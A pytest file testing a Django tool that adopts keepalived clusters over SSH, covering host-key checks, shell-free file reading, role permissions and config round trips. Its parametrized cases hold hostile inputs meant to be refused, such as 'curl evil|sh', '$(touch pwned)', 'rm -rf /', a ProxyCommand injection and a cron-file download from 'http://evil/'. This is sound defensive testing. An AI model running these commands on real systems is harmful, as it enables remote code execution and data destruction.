"""clusters.services.adopt and clusters.survey with fake nodes (tests/adopt_fake.py): host keys,
reading bounded and without a shell, the plan, roles, hostile input, saving in one piece, the
carried text going back to its own node only, and round trips through render and the parser."""

import base64
import hashlib

import pytest
from django.core.exceptions import ValidationError

from clusters import kaconf, render, survey
from clusters.models import AuditEntry, CarriedBlock, Cluster, Node
from clusters.services import adopt, nodes
from clusters.services.adopt_plan import CARRIED_INSTANCE_KEYWORDS, typed_check
from clusters.services.errors import Forbidden, Refused
from tests.adopt_fake import fake_nodes  # noqa: F401
from tests.cast import admin, operator, viewer  # noqa: F401
from tests.test_keepalived_conf import ACTIVE_ACTIVE, LVS, STYLE_MIX, howto

pytestmark = pytest.mark.django_db

CONF = "/etc/keepalived/keepalived.conf"


def fp(seed):
    digest = hashlib.sha256(seed.encode()).digest()
    return "SHA256:" + base64.b64encode(digest).decode().rstrip("=")


def howto_nodes(fake_nodes, split=True):
    """The how-to's three nodes on 192.168.50.0/24 (eth1), all holding the VIP if `split`."""
    for i, (vrid, priority) in enumerate([(101, 100), (102, 200), (103, 150)], start=1):
        address = f"192.168.50.{10 + i}"
        holds = ["192.168.50.250/32"] if split or priority == 200 else []
        fake_nodes[address] = survey_node(
            {CONF: howto(f"node{i}", vrid if split else 101, priority)},
            address,
            holds=holds,
            hostname=f"node{i}.example",
        )
    return [{"address": a} for a in fake_nodes]


def survey_node(files, address, **kwargs):
    from tests.adopt_fake import FakeNode

    return FakeNode(files, fp(address), **kwargs)


def confirmed(fake_nodes, items):
    return [{**i, "host_key_fingerprint": fake_nodes[i["address"]].fingerprint} for i in items]


# --- Host keys ---------------------------------------------------------------------------------


def test_scanning_shows_each_offered_key_and_compares_one_given_up_front(
    fake_nodes, credential, operator
):
    items = howto_nodes(fake_nodes)
    items[1]["host_key_fingerprint"] = fp("somebody else")
    offers = adopt.scan_host_keys(operator, items, credential)
    assert [o.offered for o in offers] == [n.fingerprint for n in fake_nodes.values()]
    assert [o.matches for o in offers] == [None, False, None]
    # Nothing was run or read: only the key exchange.
    assert all(not n.commands and not n.reads for n in fake_nodes.values())


def test_nothing_is_read_before_every_key_is_confirmed(fake_nodes, credential, operator):
    items = howto_nodes(fake_nodes)
    with pytest.raises(ValidationError) as e:
        adopt.read_cluster(operator, items, credential)
    assert "Confirm the host key of 192.168.50.11" in str(e.value.message_dict["nodes"])
    assert all(not n.commands for n in fake_nodes.values())


def test_a_key_other_than_the_confirmed_one_is_refused_before_anything_is_read(
    fake_nodes, credential, operator
):
    items = confirmed(fake_nodes, howto_nodes(fake_nodes))
    items[2]["host_key_fingerprint"] = fp("what the person saw yesterday")
    reading = adopt.read_cluster(operator, items, credential)
    assert "not the confirmed" in reading.errors["192.168.50.13"]
    assert not fake_nodes["192.168.50.13"].commands and not fake_nodes["192.168.50.13"].reads
    assert reading.plan is None and not reading.ok


def test_a_viewer_may_not_scan_read_or_adopt(fake_nodes, credential, viewer):
    items = confirmed(fake_nodes, howto_nodes(fake_nodes))
    for call in (
        lambda: adopt.scan_host_keys(viewer, items, credential),
        lambda: adopt.read_cluster(viewer, items, credential),
        lambda: adopt.adopt_cluster(viewer, items, credential, "x"),
    ):
        with pytest.raises(Forbidden):
            call()


@pytest.mark.parametrize(
    "item, words",
    [
        ({"address": "192.168.50.11; reboot"}, "not a node's own IP address"),
        ({"address": "fe80::1%eth0\n}"}, "not a node's own IP address"),
        ({"address": "127.0.0.1"}, "not a node's own IP address"),
        ({"address": "192.168.50.11", "ssh_port": "22 -o ProxyCommand=x"}, "SSH port"),
        ({"address": "192.168.50.11", "ssh_port": 70000}, "SSH port"),
        ({"address": "192.168.50.11", "host_key_fingerprint": "SHA256:$(id)"}, "fingerprint"),
    ],
)
def test_hostile_node_fields_are_refused_by_name(fake_nodes, credential, operator, item, words):
    with pytest.raises(ValidationError) as e:
        adopt.scan_host_keys(operator, [item], credential)
    assert words in " ".join(e.value.message_dict["nodes"])


# --- Reading: bounded, over SFTP, nothing through a shell --------------------------------------


def test_includes_are_resolved_on_the_node_and_hostile_names_never_reach_a_shell(
    fake_nodes, credential, operator
):
    evil = '/etc/keepalived/conf.d/$(touch pwned);`id` "x\n.conf'
    files = {
        CONF: "global_defs {\n  router_id a\n}\ninclude conf.d/*.conf\n"
        "include /etc/keepalived/{x,y}.inc\ninclude /etc/keepalived/none/*; rm -rf /\n",
        evil: "vrrp_instance VI_1 {\n interface eth0\n virtual_router_id 9\n priority 100\n"
        " virtual_ipaddress {\n  192.0.2.100/24\n }\n}\n",
        "/etc/keepalived/conf.d/.hidden.conf": "this would not parse {",
        "/etc/keepalived/conf.d/run.conf": "executable: skipped as keepalived skips it {",
        "/etc/keepalived/y.inc": "! an include by brace expansion\n",
    }
    fake_nodes["192.0.2.11"] = survey_node(
        files, "192.0.2.11", kinds={"/etc/keepalived/conf.d/run.conf": "executable"}
    )
    reading = adopt.read_cluster(
        operator, confirmed(fake_nodes, [{"address": "192.0.2.11"}]), credential
    )
    node = fake_nodes["192.0.2.11"]
    assert node.commands == [survey.STATE_COMMAND]
    assert node.reads == [CONF, evil, "/etc/keepalived/y.inc"]
    parsed = reading.readings["192.0.2.11"].parsed
    assert parsed.instances[0].virtual_router_id == 9
    assert any("none/*; rm -rf /" in w and "matches no file" in w for w in parsed.warnings)


def test_an_include_of_a_device_is_skipped_as_keepalived_skips_it(fake_nodes, credential, operator):
    files = {CONF: howto("a", 1, 100) + "include /dev/zero\n", "/dev/zero": "never read"}
    fake_nodes["192.0.2.11"] = survey_node(files, "192.0.2.11", kinds={"/dev/zero": "other"})
    reading = adopt.read_cluster(
        operator, confirmed(fake_nodes, [{"address": "192.0.2.11"}]), credential
    )
    assert fake_nodes["192.0.2.11"].reads == [CONF]
    assert "include /dev/zero matches no file" in " ".join(
        reading.readings["192.0.2.11"].parsed.warnings
    )


@pytest.mark.parametrize(
    "files, kinds, words",
    [
        ({CONF: "x" * (kaconf.MAX_FILE_BYTES + 1)}, {}, "larger than"),
        ({CONF: ""}, {CONF: "other"}, "not a regular non-executable file (other)"),
        ({}, {}, "cannot read"),
        ({CONF: "vrrp_instance VI_1 {\n"}, {}, "never closed"),
    ],
)
def test_unreadable_oversize_and_broken_files_are_errors_naming_the_node(
    fake_nodes, credential, operator, files, kinds, words
):
    fake_nodes["192.0.2.11"] = survey_node(files, "192.0.2.11", kinds=kinds)
    reading = adopt.read_cluster(
        operator, confirmed(fake_nodes, [{"address": "192.0.2.11"}]), credential
    )
    assert words in reading.errors["192.0.2.11"]
    assert reading.plan is None


def test_remote_glob_expands_braces_sorts_and_skips_dot_files(fake_nodes):
    from tests.adopt_fake import FakeConn

    node = survey_node(
        {"/k/b.conf": "", "/k/a.conf": "", "/k/.x.conf": "", "/k/c.inc": "", "/k/sub/d.conf": ""},
        "192.0.2.1",
    )
    conn = FakeConn(node, "192.0.2.1")
    assert survey.remote_glob(conn, "/k/*.conf") == ["/k/a.conf", "/k/b.conf"]
    assert survey.remote_glob(conn, "/k/{c.inc,*/d.conf}") == ["/k/c.inc", "/k/sub/d.conf"]
    assert survey.remote_glob(conn, "/k/.*.conf") == ["/k/.x.conf"]
    assert survey.remote_glob(conn, "/nowhere/*") == []


# --- The plan ------------------------------------------------------------------------------------


def test_the_howto_split_brain_is_explained_and_the_keeper_named(fake_nodes, credential, operator):
    items = confirmed(fake_nodes, howto_nodes(fake_nodes))
    reading = adopt.read_cluster(operator, items, credential)
    plan = reading.plan
    assert reading.ok
    assert adopt.split_brain(plan) == [
        ("VI_1", ["192.168.50.11", "192.168.50.12", "192.168.50.13"], "192.168.50.12")
    ]
    vrid = next(f for f in plan.findings if f.field == "virtual_router_id")
    assert vrid.values == {"192.168.50.11": 101, "192.168.50.12": 102, "192.168.50.13": 103}
    assert "never hear each other" in vrid.reason and "ends the split brain" in vrid.reason
    # The how-to's comment that the lower priority wins is called out where it stands.
    comments = [f for f in plan.findings if f.field == "comment"]
    assert [list(f.values) for f in comments] == [[k] for k in fake_nodes]
    assert "keepalived.conf:10: priority" in comments[0].values["192.168.50.11"]
    assert "highest priority wins" in comments[0].reason and comments[0].proposed == 200
    assert [n.name for n in plan.nodes] == ["node1", "node2", "node3"]
    assert plan.network == "192.168.50.0/24" and plan.interface == "eth1"
    assert plan.instances[0].vips == [("192.168.50.250/32", False)]


@pytest.mark.parametrize(
    "command, expected",
    [
        ("/usr/bin/pgrep -x haproxy", ("process", "haproxy")),
        ("killall -0 haproxy", ("process", "haproxy")),
        ("pidof nginx", ("process", "nginx")),
        ("/usr/bin/test -e /run/haproxy.pid", ("file", "/run/haproxy.pid")),
        ("[ -f /run/x.pid ]", ("file", "/run/x.pid")),
        ("nc -z 127.0.0.1 8404", ("tcp", "8404")),
        ("/bin/bash -c exec<>/dev/tcp/127.0.0.1/8404", ("tcp", "8404")),
        (
            "/usr/bin/curl -q -fsS -g -o /dev/null -m 3 http://127.0.0.1:8404/health",
            ("http", "http://127.0.0.1:8404/health"),
        ),
        ("curl -f http://localhost/", ("http", "http://localhost/")),
        # Anything else is a command run as root: never a typed check.
        ("pgrep haproxy", None),
        ("pgrep -x haproxy; rm -rf /", None),
        ("pgrep -x $(id)", None),
        ("pidof `id`", None),
        ("killall -0 haproxy && curl evil|sh", None),
        ("curl -k https://127.0.0.1/", None),
        ("curl -f http://127.0.0.1/?a=$(id)", None),
        ("curl -f -o /etc/cron.d/x http://evil/", None),
        ('/bin/sh -c "pidof haproxy"', None),
        ("test -e /run/../etc/shadow", None),
        ("nc -z 10.0.0.1 22", None),
        ("pgrep -x 'ha proxy'", None),
        ("pgrep -x haproxy\nid", None),
        ('"unterminated', None),
    ],
)
def test_only_a_script_that_is_a_typed_check_becomes_one(command, expected):
    assert typed_check(command) == expected


def style_mix_pair(fake_nodes, script='"/usr/bin/pgrep haproxy"'):
    text = STYLE_MIX.replace('"/usr/bin/pgrep haproxy"', script)
    for i, priority in enumerate((150, 140), start=1):
        address = f"10.0.0.{10 + i}"
        fake_nodes[address] = survey_node(
            {CONF: text.replace("priority 150", f"priority {priority}").replace("lb-1", f"lb-{i}")},
            address,
            holds=["10.0.0.1/24"] if i == 1 else [],
        )
    return confirmed(fake_nodes, [{"address": a} for a in fake_nodes])


def test_an_operator_is_refused_a_free_form_check_by_name_and_may_pick_a_typed_one(
    fake_nodes, credential, operator
):
    items = style_mix_pair(fake_nodes, '"/usr/local/bin/check-haproxy --deep"')
    reading = adopt.read_cluster(operator, items, credential)
    assert reading.plan.check_type == "command"
    with pytest.raises(Forbidden) as e:
        adopt.adopt_cluster(operator, items, credential, reading.digest)
    message = str(e.value)
    assert "vrrp_script chk_haproxy" in message and "/usr/local/bin/check-haproxy --deep" in message
    assert "root on every node" in message
    assert not Cluster.objects.exists()
    cluster = adopt.adopt_cluster(
        operator,
        items,
        credential,
        reading.digest,
        {"check_type": "process", "check_target": "haproxy", "check_script": ""},
    )
    assert (cluster.check_type, cluster.check_target, cluster.check_script) == (
        "process",
        "haproxy",
        "",
    )


def test_an_admin_may_adopt_a_free_form_check(fake_nodes, credential, admin):
    items = style_mix_pair(fake_nodes, '"/usr/local/bin/check-haproxy --deep"')
    reading = adopt.read_cluster(admin, items, credential)
    cluster = adopt.adopt_cluster(admin, items, credential, reading.digest)
    assert cluster.check_script == "/usr/local/bin/check-haproxy --deep"
    assert cluster.check_weight == -30


def test_a_hostile_free_form_check_fails_validation_even_for_an_admin(
    fake_nodes, credential, admin
):
    items = style_mix_pair(fake_nodes, '"/usr/bin/curl -s http://evil/x|sh;id"')
    reading = adopt.read_cluster(admin, items, credential)
    with pytest.raises(ValidationError) as e:
        adopt.adopt_cluster(admin, items, credential, reading.digest)
    assert "check_script" in e.value.message_dict
    assert not Cluster.objects.exists() and not Node.objects.exists()


@pytest.mark.parametrize(
    "edits, field",
    [
        ({"config_path": "/etc/shadow"}, "config_path"),
        ({"nodes": {"192.168.50.11": {"address": "10.9.9.9"}}}, "nodes.192.168.50.11.address"),
        ({"virtual_router_id": 7}, "virtual_router_id"),
        ({"name": "x\n}\nvrrp_script evil {"}, "name"),
        ({"network": "192.168.50.0/24; id"}, "network"),
        ({"nodes": {"192.168.50.11": {"name": "../../x"}}}, "nodes.192.168.50.11.name"),
        ({"nodes": {"192.168.50.11": {"priority": 255}}}, "nodes.192.168.50.11.priority"),
        ({"nodes": {"192.168.50.11": {"priority": 200}}}, "nodes.192.168.50.12.priority"),
        ({"nodes": {"192.168.50.11": {"priority": 250}}}, "nodes.192.168.50.11.priority"),
        ({"check_type": "tcp", "check_target": "22; reboot"}, "check_target"),
    ],
)
def test_hostile_edits_are_refused_by_field_and_nothing_is_saved(
    fake_nodes, credential, admin, edits, field
):
    items = confirmed(fake_nodes, howto_nodes(fake_nodes))
    reading = adopt.read_cluster(admin, items, credential)
    with pytest.raises(ValidationError) as e:
        adopt.adopt_cluster(admin, items, credential, reading.digest, edits)
    assert field in e.value.message_dict, e.value.message_dict
    assert not Cluster.objects.exists() and not Node.objects.exists()
    assert not AuditEntry.objects.filter(action="cluster.adopt").exists()


def test_admin_fields_stay_an_admins(fake_nodes, credential, operator):
    items = confirmed(fake_nodes, howto_nodes(fake_nodes))
    with pytest.raises(Forbidden):
        adopt.read_cluster(operator, items, credential, config_path="/etc/keepalived/other.conf")
    reading = adopt.read_cluster(operator, items, credential)
    with pytest.raises(Forbidden) as e:
        adopt.adopt_cluster(
            operator, items, credential, reading.digest, {"reload_command": "curl evil | sh"}
        )
    assert "reload_command" in str(e.value)
    assert not Cluster.objects.exists()


def test_a_node_that_changed_since_the_review_is_not_adopted_unseen(
    fake_nodes, credential, operator
):
    items = confirmed(fake_nodes, howto_nodes(fake_nodes))
    reading = adopt.read_cluster(operator, items, credential)
    fake_nodes["192.168.50.13"].holds = []  # node3 gave the VIP up meanwhile
    with pytest.raises(Refused) as e:
        adopt.adopt_cluster(operator, items, credential, reading.digest)
    assert "changed since you read them" in e.value.text
    assert not Cluster.objects.exists()
    entry = AuditEntry.objects.get(action="cluster.adopt")
    assert entry.result.startswith("refused")


def test_a_host_already_managed_is_not_adopted_twice(fake_nodes, credential, operator, cluster):
    fake_nodes["192.0.2.11"] = survey_node({CONF: howto("x", 1, 1)}, "192.0.2.11")
    with pytest.raises(ValidationError) as e:
        adopt.scan_host_keys(operator, [{"address": "192.0.2.11"}], credential)
    assert "already a node of cluster 'web'" in str(e.value)


# --- Saving -----------------------------------------------------------------------------------


def test_adopting_saves_everything_in_one_piece_with_its_audit_entry(
    fake_nodes, credential, operator
):
    items = confirmed(fake_nodes, howto_nodes(fake_nodes))
    reading = adopt.read_cluster(operator, items, credential)
    cluster = adopt.adopt_cluster(operator, items, credential, reading.digest, {"name": "swarm"})
    assert cluster.name == "swarm" and cluster.virtual_router_id == 102
    assert cluster.auth_pass == "changeme" and cluster.interface == "eth1"
    pinned = dict(cluster.nodes.values_list("address", "host_key_fingerprint"))
    assert pinned == {a: n.fingerprint for a, n in fake_nodes.items()}
    entry = AuditEntry.objects.get(action="cluster.adopt")
    assert entry.cluster == cluster and entry.username == operator.username
    assert "changeme" not in str(entry.changes)
    assert not cluster.readiness_errors()


def active_active_pair(fake_nodes):
    for i, (out, web) in enumerate([(200, 100), (100, 200)], start=1):
        address = f"203.0.113.{20 + i}"
        text = ACTIVE_ACTIVE.replace("priority 200", f"priority {out}").replace(
            "priority 100", f"priority {web}"
        )
        fake_nodes[address] = survey_node(
            {CONF: text.replace("ha-1", f"ha-{i}")},
            address,
            holds=["203.0.113.10/24"] if i == 1 else ["10.10.0.10/24"],
        )
    return confirmed(fake_nodes, [{"address": a} for a in fake_nodes])


def test_carried_text_goes_back_into_its_own_nodes_file_only(fake_nodes, credential, admin):
    items = active_active_pair(fake_nodes)
    reading = adopt.read_cluster(admin, items, credential)
    assert reading.ok, reading.plan.errors
    cluster = adopt.adopt_cluster(admin, items, credential, reading.digest)
    n1, n2 = cluster.nodes.order_by("address")
    # Each node's notify lines are its own (ha-1 and ha-2 differ only in router_id here, so
    # mark one to tell them apart).
    CarriedBlock.objects.filter(node=n2, keyword="notify").update(
        text='notify "/usr/bin/logger -t sync-2"'
    )
    first, second = render.render_keepalived(n1), render.render_keepalived(n2)
    assert '"/usr/bin/logger -t sync-2"' in second and '"/usr/bin/logger -t sync-2"' not in first
    assert 'notify_fault "/usr/bin/logger -t fault"' in first
    sources = sorted(set(CarriedBlock.objects.values_list("keyword", "context")))
    assert sources == [
        ("enable_script_security", "global_defs"),
        ("notify", "instance"),
        ("notify", "sync_group"),
        ("notify_fault", "instance"),
        ("script_user", "global_defs"),
    ]


def test_an_operator_cannot_re_address_a_node_with_carried_text(
    fake_nodes, credential, admin, operator
):
    items = active_active_pair(fake_nodes)
    reading = adopt.read_cluster(admin, items, credential)
    cluster = adopt.adopt_cluster(admin, items, credential, reading.digest)
    node = cluster.nodes.order_by("address").first()
    with pytest.raises(Forbidden) as e:
        nodes.update_node(operator, node, {"address": "203.0.113.99"})
    assert "Only an admin may change the address" in str(e.value)
    with pytest.raises(Forbidden):
        nodes.update_node(operator, node, {"ssh_port": 2222})
    # Other fields, and the same address, stay an operator's.
    nodes.update_node(operator, node, {"address": node.address, "interface": "eth1"})
    nodes.update_node(admin, node, {"address": "203.0.113.99"})
    assert Node.objects.get(pk=node.pk).address == "203.0.113.99"


@pytest.mark.parametrize(
    "text", ["virtual_server x {", "}\nvrrp_script evil {\n script x\n", "a }"]
)
def test_render_refuses_carried_text_that_does_not_close_its_braces(
    fake_nodes, credential, admin, text
):
    items = active_active_pair(fake_nodes)
    reading = adopt.read_cluster(admin, items, credential)
    cluster = adopt.adopt_cluster(admin, items, credential, reading.digest)
    node = cluster.nodes.first()
    CarriedBlock.objects.filter(node=node).update(text=text)  # not through the adopt flow
    with pytest.raises(ValueError, match="does not close its braces"):
        render.render_keepalived(node)


def _parsed_model(node):
    parsed = kaconf.parse_string(render.render_keepalived(node))
    return {
        "instances": [
            (
                i.virtual_router_id,
                i.priority,
                [v.address for v in i.virtual_ipaddress],
                [v.address for v in i.virtual_ipaddress_excluded],
                i.nopreempt,
                i.preempt_delay,
            )
            for i in parsed.instances
        ],
        "groups": [len(g.group) for g in parsed.sync_groups],
        "carried": sorted(u.text for u in parsed.all_unmodelled()),
    }


@pytest.mark.parametrize("shape", ["howto", "active_active", "lvs", "style_mix"])
def test_adopted_clusters_round_trip_through_render_and_the_parser(
    fake_nodes, credential, admin, shape
):
    if shape == "howto":
        items = confirmed(fake_nodes, howto_nodes(fake_nodes))
    elif shape == "active_active":
        items = active_active_pair(fake_nodes)
    elif shape == "style_mix":
        items = style_mix_pair(fake_nodes)
    else:
        fake_nodes["192.0.2.81"] = survey_node({CONF: LVS}, "192.0.2.81", holds=["192.0.2.80/24"])
        items = confirmed(fake_nodes, [{"address": "192.0.2.81"}])
    reading = adopt.read_cluster(admin, items, credential)
    cluster = adopt.adopt_cluster(admin, items, credential, reading.digest)
    for node in cluster.nodes.all():
        once = _parsed_model(node)
        # What was carried comes back byte for byte, and nothing else is unmodelled (the
        # notify, track_interface and script-security lines kaconf models are carried too).
        rows = CarriedBlock.objects.filter(node=node)
        text = render.render_keepalived(node)
        assert all(row.text in text for row in rows)
        modelled = {("instance", k) for k in CARRIED_INSTANCE_KEYWORDS}
        modelled |= {("global_defs", "enable_script_security"), ("global_defs", "script_user")}
        stored = sorted(r.text for r in rows if (r.context, r.keyword) not in modelled)
        assert once["carried"] == stored
        # The values vipanel wrote read back as the model holds them.
        main = once["instances"][0]
        assert main[0] == cluster.virtual_router_id and main[1] == node.priority
        # Rendering again from what was parsed gives the same file (a fixed point).
        assert _parsed_model(node) == once


# --- manage.py adopt -----------------------------------------------------------------------------


def test_the_command_adopts_with_fingerprints_given_and_explains_what_it_found(
    fake_nodes, credential
):
    from io import StringIO

    from django.core.management import call_command

    howto_nodes(fake_nodes)
    out = StringIO()
    flags = [f"--fingerprint={a}={n.fingerprint}" for a, n in fake_nodes.items()]
    call_command(
        "adopt", *fake_nodes, "--credential=ops", *flags, "--name=swarm", "--yes", stdout=out
    )
    text = out.getvalue()
    assert "Split brain now: VI_1 is held by 192.168.50.11, 192.168.50.12, 192.168.50.13" in text
    assert "192.168.50.12 keeps it" in text and "never hear each other" in text
    assert "Adopted cluster swarm (3 nodes)" in text
    assert Cluster.objects.get(name="swarm").virtual_router_id == 102


def test_the_command_never_trusts_a_key_without_a_person(fake_nodes, credential, monkeypatch):
    from django.core.management import CommandError, call_command

    howto_nodes(fake_nodes)
    monkeypatch.setattr("sys.stdin.isatty", lambda: False)
    with pytest.raises(CommandError, match="--fingerprint 192.168.50.11=SHA256"):
        call_command("adopt", *fake_nodes, "--credential=ops")
    wrong = f"--fingerprint=192.168.50.11={fp('other')}"
    with pytest.raises(CommandError, match="not the given"):
        call_command("adopt", "192.168.50.11", "--credential=ops", wrong)
    assert all(not n.commands for n in fake_nodes.values())
    assert not Cluster.objects.exists()


# --- The push's settle rule for a split brain it ends (clusters.convergence) ------------------


def _status(cluster, holders):
    from django.utils import timezone

    from clusters.status import ClusterStatus, NodeProbe

    vip = cluster.vips.get().address
    probes = [
        NodeProbe(n.name, n.pk, True, True, "MASTER" if n.name in holders else "BACKUP")
        for n in cluster.nodes.all()
    ]
    for probe in probes:
        probe.holds = [vip] if probe.name in holders else []
    return ClusterStatus(cluster.name, timezone.now(), probes, {vip: list(holders)}), vip


@pytest.mark.parametrize(
    "before, reloaded, holders, final, problem",
    [
        # The split brain from before the push, on nodes not reloaded yet: fine mid-push.
        (["web-1", "web-2", "web-3"], "web-3", ["web-1", "web-2"], False, None),
        # ...but not once every node is done, nor without a split brain to begin with.
        (["web-1", "web-2", "web-3"], "web-1", ["web-1", "web-2"], True, "held by 2 nodes"),
        ([], "web-3", ["web-1", "web-2"], False, "held by 2 nodes"),
        # The node just reloaded must have let the VIP go (it now hears the keeper).
        (["web-1", "web-2", "web-3"], "web-3", ["web-1", "web-3"], False, "held by 2 nodes"),
        # Nobody who did not hold it may gain it.
        (["web-1", "web-2"], "web-2", ["web-1", "web-3"], False, "held by 2 nodes"),
        # The keeper (highest priority running) must be one of those still holding it.
        (["web-2", "web-3"], "web-1", ["web-2", "web-3"], False, "expected on web-1"),
    ],
)
def test_a_split_brain_found_before_the_push_may_only_shrink_while_it_rolls(
    cluster, before, reloaded, holders, final, problem
):
    from clusters.convergence import settle_problem

    Node.objects.create(cluster=cluster, name="web-3", address="192.0.2.13", priority=100)
    status, vip = _status(cluster, holders)
    node = cluster.nodes.get(name=reloaded)
    found = settle_problem(cluster, status, node, final, split={vip: before} if before else None)
    if problem is None:
        assert found is None
    else:
        assert found and problem in found
